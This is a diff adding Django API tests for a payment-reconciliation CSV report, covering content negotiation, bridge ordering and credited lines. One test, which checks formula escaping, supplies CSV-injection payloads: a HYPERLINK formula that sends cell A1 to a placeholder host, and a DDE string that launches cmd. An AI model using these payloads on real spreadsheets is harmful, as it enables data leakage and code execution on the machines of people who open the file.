@@ -11,7 +11,7 @@ from rest_framework.test import APIClient
 from core.services import api_client_create
 from payments.models import PaymentStatus
 
-from .builders import Preamble, Row, g2_csv, make_payment, pay_row
+from .builders import Preamble, Row, charge_row, eat, g2_csv, make_payment, pay_row
 
 pytestmark = pytest.mark.django_db
 
@@ -198,6 +198,117 @@ def test_the_csv_report_has_the_summary_the_bridge_and_every_line(api, shop):
     (payment_row,) = [row for row in table if row["section"] == "payment"]
     assert payment_row["class"] == "missing_from_statement"
     assert payment_row["our_amount"] == "300.00"
+
+
+def report_table(api, run_id, **headers):
+    response = api.get(f"/reconciliation/runs/{run_id}/report/", **headers)
+    assert response.status_code == 200, response
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_the_report_is_served_to_a_client_asking_for_csv_and_refused_to_one_asking_json(api):
+    run_id = upload(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00"))).json()["run"][
+        "id"
+    ]
+
+    assert report_table(api, run_id, HTTP_ACCEPT="text/csv")
+    assert report_table(api, run_id, HTTP_ACCEPT="*/*")
+    json_only = api.get(f"/reconciliation/runs/{run_id}/report/", HTTP_ACCEPT="application/json")
+    assert json_only.status_code == 406
+    missing = api.get("/reconciliation/runs/999999/report/", HTTP_ACCEPT="text/csv")
+    assert missing.status_code == 404 and missing["Content-Type"].startswith("text/csv")
+    assert next(csv.DictReader(io.StringIO(missing.content.decode())))["code"] == "not_found"
+
+
+def test_the_bridge_reads_top_to_bottom_in_the_report_and_the_api(api, shop):
+    make_payment(amount=100, receipt="TK5XA1BC2D", client=shop)
+    rows = [
+        pay_row("TK5XA1BC2D", 100, "05-11-2025 10:00:00"),
+        charge_row("TK5XA1BC2D", 5, "05-11-2025 10:00:00"),
+    ]
+    body = upload(api, statement(*rows)).json()
+    run_id = body["run"]["id"]
+    order = ["statement_total", "our_total", "difference", "explained_total", "residual"]
+
+    table = report_table(api, run_id)
+    assert [row["class"] for row in table if row["section"] == "bridge"] == order
+    summary_classes = [row["class"] for row in table if row["section"] == "summary"]
+    assert summary_classes == sorted(summary_classes)
+    for summary in (
+        body["run"]["summary"],
+        api.get(f"/reconciliation/runs/{run_id}/summary/").json(),
+        api.get(f"/reconciliation/runs/{run_id}/").json()["summary"],
+    ):
+        assert [key for key in summary["bridge"] if key != "explained"] == order
+        assert list(summary["classes"]) == sorted(summary["classes"])
+        assert list(summary["classes"]["matched"]) == ["count", "statement_amount", "our_amount"]
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(api):
+    rows = [
+        pay_row(
+            "TK5XA1BC2E",
+            5,
+            "05-11-2025 10:01:00",
+            account="=1+2",
+            details='=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+            party="@SUM(1) - X",
+        ),
+        pay_row("TK5XA1BC2F", 6, "05-11-2025 10:02:00", account="\t=1+2"),
+        pay_row("TK5XA1BC2G", 7, "05-11-2025 10:03:00", account="-2+3"),
+    ]
+    run_id = upload(api, statement(*rows)).json()["run"]["id"]
+    brk = api.get(f"/reconciliation/runs/{run_id}/breaks/").json()["results"][0]
+    api.post(
+        f"/reconciliation/breaks/{brk['id']}/resolve/",
+        {"action": "accept", "reason": "+cmd|' /C calc'!A0"},
+        format="json",
+    )
+
+    lines = {
+        row["receipt_number"]: row for row in report_table(api, run_id) if row["section"] == "line"
+    }
+
+    first = lines["TK5XA1BC2E"]
+    assert first["account_reference"] == "'=1+2"
+    assert first["details"].startswith("'=HYPERLINK(")
+    assert first["other_party"] == "'@SUM(1) - X"
+    assert lines["TK5XA1BC2F"]["account_reference"] == "'\t=1+2"
+    assert lines["TK5XA1BC2G"]["account_reference"] == "'-2+3"
+    assert lines[brk["line"]["receipt_number"]]["resolution_reason"].startswith("'+cmd")
+    # Amounts are numbers, written as they are (a withdrawal stays negative).
+    assert first["paid_in"] == "5.00"
+
+
+def test_a_line_a_person_credited_shows_the_payment_in_the_report(api, shop):
+    pending = make_payment(
+        amount=900, status=PaymentStatus.PENDING, client=shop, when=eat("01-11-2025 08:00:00")
+    )
+    run_id = upload(api, statement(pay_row("RCPT000009", 900, "05-11-2025 10:00:00"))).json()[
+        "run"
+    ]["id"]
+    brk = api.get(f"/reconciliation/runs/{run_id}/breaks/", {"kind": "unknown_payment"}).json()[
+        "results"
+    ][0]
+    resolved = api.post(
+        f"/reconciliation/breaks/{brk['id']}/resolve/",
+        {"action": "match", "reason": "paid", "payment_id": str(pending.pk)},
+        format="json",
+    )
+    assert resolved.status_code == 200, resolved.content
+
+    line = next(
+        row
+        for row in report_table(api, run_id)
+        if row["section"] == "line" and row["receipt_number"] == "RCPT000009"
+    )
+
+    assert line["resolution"] == "credited"
+    assert (line["payment_id"], line["payment_status"], line["our_amount"]) == (
+        str(pending.pk),
+        "SUCCESS",
+        "900.00",
+    )
 
 
 def test_a_break_is_resolved_through_the_api_with_a_reason(api, shop):
